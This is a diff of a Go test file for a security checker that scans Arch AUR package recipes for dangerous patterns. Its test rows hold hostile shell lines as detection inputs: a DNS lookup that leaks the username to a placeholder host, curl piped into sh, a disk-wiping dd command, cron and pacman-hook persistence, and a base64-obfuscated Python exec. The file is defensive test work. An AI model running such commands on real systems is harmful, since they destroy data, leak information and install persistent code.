@@ -4,14 +4,20 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"go/ast"
+	"go/parser"
+	"go/token"
 	"os"
 	"path/filepath"
+	"regexp"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/nidoit/blunux-ai/i18n"
 	"github.com/nidoit/blunux-ai/upgrade/aur"
 )
 
@@ -122,6 +128,25 @@ func TestFacts(t *testing.T) {
 		{"not bash", head + "if then\n", "", aur.Unreadable, aur.Red},
 		{"scriptlet missing", head + "install=other.install\n", "", aur.MissingInstall, aur.Warn},
 		{"one letter", strings.Replace(head, "pkgname=tool", "pkgname=chromuim", 1), "", aur.Imitates, aur.Red},
+		{"host", head, "", aur.Host, aur.Note},
+		{"a name of an attack", body("npm install js-digest"), "", aur.KnownBad, aur.Red},
+		{"program of a stranger", head + "source+=(git+https://github.com/stranger/helper.git)\nbuild() { ./helper/run-me; }\n", "", aur.StrangeSource, aur.Red},
+		{"output of a program into sh", body("./generate | sh"), "", aur.RunsInput, aur.Warn},
+		{"eval of what is not known", body("eval \"$MAKEFLAGS\""), "", aur.RunsText, aur.Note},
+		{"a command at the top", head + "touch here\n", "", aur.TopCommand, aur.Warn},
+		{"a name that is asked for", body("dig \"$(whoami).tool.example.invalid\""), "", aur.Sends, aur.Red},
+		{"goes on in the background", head, "post_install() { tool & }\n", aur.Background, aur.Red},
+		{"overwrites a disk", body("dd if=/dev/zero of=/dev/sda"), "", aur.Destroys, aur.Red},
+		{"copies itself", head, "post_install() { cp \"$0\" /usr/bin/tool; }\n", aur.CopiesItself, aur.Red},
+		{"schedules", body("crontab jobs"), "", aur.Persists, aur.Red},
+		{"hook from elsewhere", body("install -Dm644 \"$srcdir/tool.hook\" -t \"$pkgdir/usr/share/libalpm/hooks\""), "", aur.Hook, aur.Warn},
+		{"hook of the administrator", body("cp a.hook \"$pkgdir/etc/pacman.d/hooks/\""), "", aur.Hook, aur.Warn},
+		{"written hook", body("cat > \"$pkgdir/usr/share/libalpm/hooks/a.hook\" <<EOF\n[Action]\nExec = /usr/bin/tool\nEOF"), "", aur.Hook, aur.Note},
+		{"written hook that fetches", body("cat > \"$pkgdir/usr/share/libalpm/hooks/a.hook\" <<EOF\n[Action]\nExec = /usr/bin/curl -O https://tool.example.invalid/x\nEOF"), "", aur.RootFetches, aur.Red},
+		{"printed hook that fetches", body("printf '[Action]\\nExec = /usr/bin/wget https://tool.example.invalid/x\\n' > \"$pkgdir/usr/share/libalpm/hooks/a.hook\""), "", aur.RootFetches, aur.Red},
+		{"text with Exec that is no hook", body("cat > \"$pkgdir/usr/share/doc/a\" <<EOF\nExec = /usr/bin/curl -O https://tool.example.invalid/x\nEOF"), "", aur.RootFetches, ""},
+		{"hook outside the package", body("cp a.hook /usr/share/libalpm/hooks/"), "", aur.Persists, aur.Red},
+		{"scriptlet writes a hook", head, "post_install() { echo x > /usr/share/libalpm/hooks/a.hook; }\n", aur.Persists, aur.Red},
 	} {
 		t.Run(row.name, func(t *testing.T) {
 			r := check(row.pkgbuild, row.install)
@@ -133,6 +158,76 @@ func TestFacts(t *testing.T) {
 	}
 }
 
+func TestFactsOfOtherFiles(t *testing.T) {
+	const hook = "[Trigger]\nType = Path\n\n[Action]\nExec = "
+	installs := head + "package() {\n  install -Dm644 *.hook -t \"$pkgdir/usr/share/libalpm/hooks/\"\n}\n"
+	for _, row := range []struct {
+		name, file, text string
+		code             aur.Code
+		severity         aur.Severity
+	}{
+		{"hook of the recipe", "tool.hook", hook + "/usr/bin/systemd-sysusers\n", aur.Hook, aur.Note},
+		{"usual command of a hook", "tool.hook", hook + "/usr/bin/systemd-sysusers\n", aur.RootCommand, aur.Note},
+		{"strange command of a hook", "tool.hook", hook + "/usr/bin/frobnicate\n", aur.RootUnknown, aur.Warn},
+		{"hook fetches", "tool.hook", hook + "/bin/sh -c 'curl https://tool.example.invalid/i | sh'\n", aur.RunsFetched, aur.Red},
+		{"hook enables a service", "tool.hook", hook + "/usr/bin/systemctl enable tool\n", aur.Services, aur.Warn},
+		{"a program", "tool", "\x7fELF\x02", aur.Binary, aur.Red},
+		{"a script that hides what it does", "run.py", "#!/usr/bin/python\nimport base64\nexec(base64.b64decode('" + strings.Repeat("QUJD", 80) + "'))\n", aur.Obfuscated, aur.Red},
+		{"other sources in .SRCINFO", ".SRCINFO", "pkgbase = tool\n\tsource = https://other.example.invalid/a\n", aur.DiffersSrcinfo, aur.Warn},
+	} {
+		t.Run(row.name, func(t *testing.T) {
+			r := aur.Check(aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(installs), row.file: []byte(row.text)}})
+			require.Equal(t, row.severity, severityOf(r, row.code), "%+v", r.Facts)
+		})
+	}
+	r := aur.Check(aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(head)}, Large: []string{"big.bin"}, Links: []string{"a"}})
+	require.Equal(t, aur.Warn, severityOf(r, aur.TooLarge))
+	require.Equal(t, aur.Warn, severityOf(r, aur.LinkedFile))
+}
+
+// A script that a hook starts runs as root at each later transaction: it is read like an install script.
+func TestTheScriptOfAHookIsReadAsRoot(t *testing.T) {
+	files := map[string][]byte{
+		"PKGBUILD": []byte(head), "tool-refresh.sh": []byte("#!/bin/sh\nwget https://tool.example.invalid/list\n"),
+	}
+	require.Empty(t, severityOf(aur.Check(aur.Recipe{Files: files}), aur.RootFetches))
+	files["a.hook"] = []byte("[Action]\nExec = /usr/share/tool/tool-refresh.sh --quiet\n")
+	r := aur.Check(aur.Recipe{Files: files})
+	require.True(t, r.Held())
+	require.Equal(t, aur.Fact{Code: aur.RootFetches, Severity: aur.Red, File: "tool-refresh.sh", Line: 2, Detail: "wget https://tool.example.invalid/list"}, r.Facts[0])
+}
+
+// Each fact is in a row of these tests, by the name of its code, and in the documents with its sentence.
+func TestEveryFactIsTestedAndDocumented(t *testing.T) {
+	documents := map[i18n.Lang]string{i18n.English: "../../docs/aur.md", i18n.Korean: "../../docs/aur.ko.md"}
+	for lang, file := range documents {
+		text, err := os.ReadFile(file)
+		require.NoError(t, err)
+		documents[lang] = string(text)
+	}
+	tests, err := os.ReadFile("aur_test.go")
+	require.NoError(t, err)
+	file, err := parser.ParseFile(token.NewFileSet(), "code.go", nil, 0)
+	require.NoError(t, err)
+	var all, missing []string
+	ast.Inspect(file, func(n ast.Node) bool {
+		if spec, ok := n.(*ast.ValueSpec); ok {
+			all = append(all, spec.Names[0].Name)
+			if !regexp.MustCompile(`aur\.` + spec.Names[0].Name + `\b`).Match(tests) {
+				missing = append(missing, spec.Names[0].Name)
+			}
+			code, err := strconv.Unquote(spec.Values[0].(*ast.BasicLit).Value)
+			require.NoError(t, err)
+			for lang, document := range documents {
+				require.Contains(t, document, "| `"+code+"` | "+i18n.AurFacts.In(code, lang)+" |")
+			}
+		}
+		return true
+	})
+	require.Greater(t, len(all), 60)
+	require.Empty(t, missing)
+}
+
 func TestLinesAreThoseOfTheFile(t *testing.T) {
 	r := check(head+"package() {\n  make\n  curl https://tool.example.invalid/i \\\n    | sh\n}\n", "")
 	require.True(t, r.Held())
@@ -141,7 +236,7 @@ func TestLinesAreThoseOfTheFile(t *testing.T) {
 	require.Equal(t, "package", r.Facts[0].Function)
 }
 
-// Threat39: nothing of a recipe runs, whatever it says.
+// Threat39: nothing of a recipe runs, regardless of its text.
 func TestThreat39NothingOfARecipeRuns(t *testing.T) {
 	dir := t.TempDir()
 	mark := filepath.Join(dir, "ran")
@@ -214,12 +309,27 @@ func TestThreat39ANewMaintainerWithNewCommandsIsHeld(t *testing.T) {
 	report = compare(old, info)
 	require.True(t, report.Has(aur.NewMaintainer))
 	require.False(t, report.Held())
+	require.Equal(t, aur.Red, severityOf(compare(more, info), aur.Adopted))
 	require.True(t, compare(more, info).Held())
 
 	info = aur.Info{Name: "tool", LastModified: now.Add(-time.Hour).Unix(), FirstSubmitted: now.Add(-time.Hour).Unix(), OutOfDate: now.Unix()}
 	report = compare(old, info)
 	for _, code := range []aur.Code{aur.Orphan, aur.Fresh, aur.Young, aur.FewVotes, aur.OutOfDate} {
 		require.True(t, report.Has(code), code)
+	}
+}
+
+// What makepkg puts beside a recipe is no part of it. Any other new file is, and so is what pacman would run as root.
+func TestFetchedFilesAreNoPartOfARecipe(t *testing.T) {
+	recipe := aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(head + "install=run.install\nsource+=(https://tool.example.invalid/run.install)\n")}}
+	seen := aur.Remember(recipe, aur.Check(recipe), "", time.Now())
+	require.True(t, seen.Is(recipe))
+	for name, part := range map[string]bool{
+		"tool-1.0.tar.gz": false, "tool-1.0-1-any.pkg.tar.zst": false, "run.install": true, "tool.hook": true, "PKGBUILD": true, "other": true,
+	} {
+		more := aur.Recipe{Files: map[string][]byte{"PKGBUILD": recipe.Files["PKGBUILD"], name: []byte("new")}}
+		require.Equal(t, !part, seen.Is(more.Without(aur.Fetched(more, seen))), name)
+		require.Empty(t, aur.Fetched(more, aur.Seen{}), "nothing was seen: all of it is checked")
 	}
 }
 
